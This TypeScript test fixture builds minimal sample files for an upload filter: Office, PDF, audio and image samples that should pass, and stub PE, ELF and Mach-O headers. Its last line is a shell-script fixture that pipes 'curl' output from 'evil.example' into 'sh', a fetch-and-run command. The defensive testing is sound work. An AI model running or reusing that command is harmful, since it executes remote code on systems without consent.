import zlib from 'node:zlib';
import { demoPng } from '../../simulator/richReplies';

/**
 * Small real files, built byte by byte: each starts with its format's real
 * signature and carries the minimal structure a reader of that format
 * expects (zip containers with their central directory, RIFF and ISO-BMFF
 * boxes with their sizes). What the upload checks look at is what a real
 * file of that kind has.
 */

const u16 = (n: number) => Buffer.from([n & 0xff, (n >> 8) & 0xff]);
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};
const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};

/** A zip archive of stored (uncompressed) entries, in order, with its central directory, as Office and OpenDocument files are. */
export function zip(entries: [name: string, content: string | Buffer][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
    const nameBytes = Buffer.from(name);
    const crc = zlib.crc32(data);
    const common = Buffer.concat([
      u16(20),
      u16(0),
      u16(0),
      u16(0),
      u16(0x21),
      u32(crc),
      u32(data.length),
      u32(data.length),
      u16(nameBytes.length),
      u16(0),
    ]);
    const local = Buffer.concat([u32(0x04034b50), common, nameBytes, data]);
    centrals.push(
      Buffer.concat([u32(0x02014b50), u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), nameBytes]),
    );
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.concat([
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(entries.length),
    u16(entries.length),
    u32(central.length),
    u32(offset),
    u16(0),
  ]);
  return Buffer.concat([...locals, central, end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const contentTypes = (main: string, part: string) =>
  `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${main}"/></Types>`;
const rels = (part: string) =>
  `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${part}"/></Relationships>`;

function office(part: string, mainType: string, body: string): Buffer {
  return zip([
    ['[Content_Types].xml', contentTypes(mainType, part)],
    ['_rels/.rels', rels(part)],
    [part, `${XML}${body}`],
  ]);
}

function riff(form: string, chunks: Buffer[]): Buffer {
  const body = Buffer.concat([Buffer.from(form), ...chunks]);
  return Buffer.concat([Buffer.from('RIFF'), u32(body.length), body]);
}
const chunk = (id: string, data: Buffer) =>
  Buffer.concat([Buffer.from(id), u32(data.length), data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
const box = (type: string, data: Buffer) => Buffer.concat([u32be(8 + data.length), Buffer.from(type), data]);
const ftyp = (major: string, compatible: string[]) =>
  box('ftyp', Buffer.concat([Buffer.from(major), u32be(0), ...compatible.map((c) => Buffer.from(c))]));

/** One MPEG-1 Layer III frame (128 kbit/s, 44.1 kHz): 417 bytes starting with its sync word. */
const mp3Frame = () => Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413)]);
const ebml = (id: number[], data: Buffer) => Buffer.concat([Buffer.from(id), Buffer.from([0x80 | data.length]), data]);

/** A file a guest may well send, with the type a browser declares for it. */
export interface Sample {
  name: string;
  fileName: string;
  declaredType: string;
  /** The type it goes to Genesys as, when not the declared one: a common alias's usual name, or the name's type for none declared. */
  sentAs?: string;
  bytes: Buffer;
}

export function allowedSamples(): Sample[] {
  const odt = zip([
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    [
      'META-INF/manifest.xml',
      `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    ],
    [
      'content.xml',
      `${XML}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"><office:body><office:text/></office:body></office:document-content>`,
    ],
  ]);
  const pcm = Buffer.alloc(800);
  const fmt = Buffer.concat([u16(1), u16(1), u32(8000), u32(16000), u16(2), u16(16)]);
  const wav = riff('WAVE', [chunk('fmt ', fmt), chunk('data', pcm)]);
  const webm = Buffer.concat([
    ebml(
      [0x1a, 0x45, 0xdf, 0xa3],
      Buffer.concat([
        ebml([0x42, 0x86], Buffer.from([1])),
        ebml([0x42, 0x82], Buffer.from('webm')),
        ebml([0x42, 0x87], Buffer.from([4])),
        ebml([0x42, 0x85], Buffer.from([2])),
      ]),
    ),
    Buffer.from([0x18, 0x53, 0x80, 0x67, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
    Buffer.alloc(256),
  ]);
  const opusHead = Buffer.concat([
    Buffer.from('OpusHead'),
    Buffer.from([1, 1]),
    u16(312),
    u32(48000),
    u16(0),
    Buffer.from([0]),
  ]);
  const ogg = Buffer.concat([
    Buffer.from('OggS'),
    Buffer.from([0, 2]),
    Buffer.alloc(8),
    u32(0x1234),
    u32(0),
    u32(0),
    Buffer.from([1, opusHead.length]),
    opusHead,
  ]);
  const jpeg = Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
    Buffer.from('ffdb004300', 'hex'),
    Buffer.alloc(64, 1),
    Buffer.from('ffd9', 'hex'),
  ]);
  const gif = Buffer.concat([
    Buffer.from('GIF89a'),
    u16(1),
    u16(1),
    Buffer.from([0x80, 0, 0]),
    Buffer.from([0, 0, 0, 255, 255, 255]),
    Buffer.from('2c00000000010001000002024401003b', 'hex'),
  ]);
  const webp = riff('WEBP', [chunk('VP8L', Buffer.from('2f0000000007d0ff0fe0ff1c', 'hex'))]);
  return [
    {
      name: 'docx',
      fileName: 'letter.docx',
      declaredType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bytes: office(
        'word/document.xml',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>',
      ),
    },
    {
      name: 'xlsx',
      fileName: 'budget.xlsx',
      declaredType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: office(
        'xl/workbook.xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
      ),
    },
    {
      name: 'pptx',
      fileName: 'slides.pptx',
      declaredType: 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      bytes: office(
        'ppt/presentation.xml',
        'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
      ),
    },
    { name: 'odt', fileName: 'letter.odt', declaredType: 'application/vnd.oasis.opendocument.text', bytes: odt },
    {
      name: 'pdf',
      fileName: 'invoice.pdf',
      declaredType: 'application/pdf',
      bytes: Buffer.from(
        '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      ),
    },
    {
      name: 'zip',
      fileName: 'logs.zip',
      declaredType: 'application/zip',
      bytes: zip([['app.log', 'started\nstopped\n']]),
    },
    {
      name: 'mp3 with ID3',
      fileName: 'voice.mp3',
      declaredType: 'audio/mpeg',
      bytes: Buffer.concat([Buffer.from('ID3'), Buffer.from([3, 0, 0, 0, 0, 0, 0]), mp3Frame(), mp3Frame()]),
    },
    {
      name: 'mp3 without ID3',
      fileName: 'voice.mp3',
      declaredType: 'audio/mpeg',
      bytes: Buffer.concat([mp3Frame(), mp3Frame()]),
    },
    {
      name: 'm4a',
      fileName: 'memo.m4a',
      declaredType: 'audio/x-m4a',
      sentAs: 'audio/mp4',
      bytes: Buffer.concat([
        ftyp('M4A ', ['M4A ', 'mp42', 'isom']),
        box('free', Buffer.alloc(0)),
        box('mdat', Buffer.alloc(64)),
      ]),
    },
    { name: 'wav', fileName: 'note.wav', declaredType: 'audio/wav', bytes: wav },
    {
      name: 'wav declared audio/x-wav',
      fileName: 'note.wav',
      declaredType: 'audio/x-wav',
      sentAs: 'audio/wav',
      bytes: wav,
    },
    { name: 'webm audio', fileName: 'voice-note.webm', declaredType: 'audio/webm;codecs=opus', bytes: webm },
    { name: 'ogg', fileName: 'voice.ogg', declaredType: 'audio/ogg', bytes: ogg },
    {
      name: 'heic',
      fileName: 'IMG_0001.HEIC',
      declaredType: 'application/octet-stream',
      sentAs: 'image/heic',
      bytes: Buffer.concat([ftyp('heic', ['mif1', 'heic']), box('meta', Buffer.alloc(32))]),
    },
    { name: 'png', fileName: 'photo.png', declaredType: 'image/png', bytes: demoPng(4, 4) },
    { name: 'jpeg', fileName: 'photo.jpg', declaredType: 'image/jpeg', bytes: jpeg },
    { name: 'gif', fileName: 'wave.gif', declaredType: 'image/gif', bytes: gif },
    { name: 'webp', fileName: 'photo.webp', declaredType: 'image/webp', bytes: webp },
    {
      name: 'csv',
      fileName: 'orders.csv',
      declaredType: 'text/csv',
      bytes: Buffer.from('country,orders\nMZ,3\nPT,10\n'),
    },
    {
      name: 'txt',
      fileName: 'notes.txt',
      declaredType: 'text/plain',
      bytes: Buffer.from('My parcel 1234 never arrived.\n'),
    },
  ];
}

/** A Windows PE executable: DOS header with `e_lfanew`, its stub, the `PE\0\0` signature and a COFF header (x86-64). */
export function peExecutable(): Buffer {
  const dos = Buffer.alloc(0x80);
  dos.write('MZ', 0, 'latin1');
  dos.writeUInt16LE(0x90, 2);
  dos.writeUInt16LE(3, 4);
  dos.writeUInt16LE(4, 8);
  dos.writeUInt16LE(0xffff, 0x0c);
  dos.writeUInt16LE(0xb8, 0x10);
  dos.writeUInt32LE(0x80, 0x3c);
  dos.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  const coff = Buffer.alloc(20);
  coff.writeUInt16LE(0x8664, 0);
  coff.writeUInt16LE(1, 2);
  coff.writeUInt16LE(0xf0, 16);
  coff.writeUInt16LE(0x22, 18);
  return Buffer.concat([dos, Buffer.from('PE\0\0', 'latin1'), coff, Buffer.alloc(512)]);
}

/** A 64-bit little-endian ELF header (x86-64 executable). */
export function elfExecutable(): Buffer {
  const h = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(h);
  h.writeUInt16LE(2, 16);
  h.writeUInt16LE(0x3e, 18);
  h.writeUInt32LE(1, 20);
  h.writeUInt16LE(64, 52);
  return Buffer.concat([h, Buffer.alloc(256)]);
}

/** A 64-bit Mach-O header (x86-64 executable), as written on disk (little-endian). */
export function machOExecutable(): Buffer {
  const h = Buffer.alloc(32);
  h.writeUInt32LE(0xfeedfacf, 0);
  h.writeUInt32LE(0x01000007, 4);
  h.writeUInt32LE(3, 8);
  h.writeUInt32LE(2, 12);
  return Buffer.concat([h, Buffer.alloc(256)]);
}

/** A universal (fat) Mach-O: big-endian `cafebabe`, two architectures. */
export function fatMachO(): Buffer {
  const h = Buffer.concat([
    u32be(0xcafebabe),
    u32be(2),
    u32be(0x01000007),
    u32be(3),
    u32be(0x1000),
    u32be(0x100),
    u32be(12),
    u32be(0x0100000c),
    u32be(0),
    u32be(0x2000),
    u32be(0x100),
    u32be(14),
  ]);
  return Buffer.concat([h, Buffer.alloc(256)]);
}

export const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
